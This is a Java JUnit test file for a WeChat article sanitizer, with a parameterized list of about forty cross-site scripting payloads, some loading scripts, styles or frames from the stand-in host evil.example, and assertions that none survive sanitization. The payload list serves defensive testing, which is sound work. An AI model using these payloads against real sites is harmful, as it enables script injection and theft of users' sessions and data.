package io.github.gongkai.channel.wechat;

import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

import static org.assertj.core.api.Assertions.assertThat;

@DisplayName("恶意内容")
class ContentAttacksTest {
    static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img src=https://mmbiz.qpic.cn/a.png onload=alert(1)>",
            "<img/src='x'/onerror='alert(1)'>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" java\tscript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"https://mp.weixin.qq.com/s/a\" onclick=alert(1)>x</a>",
            "<a href=\"https://mp.weixin.qq.com@evil.example/\">x</a>",
            "<a href=\"https://mp.weixin.qq.com.evil.example/\">x</a>",
            "<p onmouseover=alert(1)>x</p>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<p style=\"width:expression(alert(1))\">x</p>",
            "<p style=\"position:fixed;top:0;text-align:center;background:url(//evil.example/p)\">x</p>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<base href=https://evil.example/>",
            "<iframe src=https://evil.example></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=https://evil.example/x.swf></object>",
            "<embed src=https://evil.example/x.swf>",
            "<svg onload=alert(1)><circle/></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<template><script>alert(1)</script></template>",
            "<form action=https://evil.example><input name=p><button formaction=javascript:alert(1)>x</button></form>",
            "<video src=x onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)></audio>",
            "<details open ontoggle=alert(1)>x</details>",
            "<body onload=alert(1)>x",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<table background=\"javascript:alert(1)\"><tr><td id=x class=y>x</td></tr></table>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>");

    @ParameterizedTest
    @FieldSource("ATTACKS")
    void letsNothingActiveThrough(String attack) {
        org.jsoup.nodes.Document content = Jsoup.parseBodyFragment(Articles.content("<p>前</p>" + attack + "<p>后</p>"));

        assertThat(content
                        .select(
                                "script, style, link, meta, base, iframe, object, embed, svg, math, template, form, input,"
                                        + " video, audio, noscript, xmp, marquee, details")
                        .stream()
                        .filter(element -> element.closest("head") == null))
                .isEmpty();
        content.body()
                .getAllElements()
                .forEach(element -> element.attributes().forEach(attribute -> {
                    assertThat(attribute.getKey()).isIn("style", "href", "src", "alt", "colspan", "rowspan", "start");
                    assertThat(attribute.getValue().toLowerCase(Locale.ROOT))
                            .doesNotContain("script:", "expression", "url(", "position", "evil", "data:");
                }));
        assertThat(content.text()).contains("前", "后");
    }
}
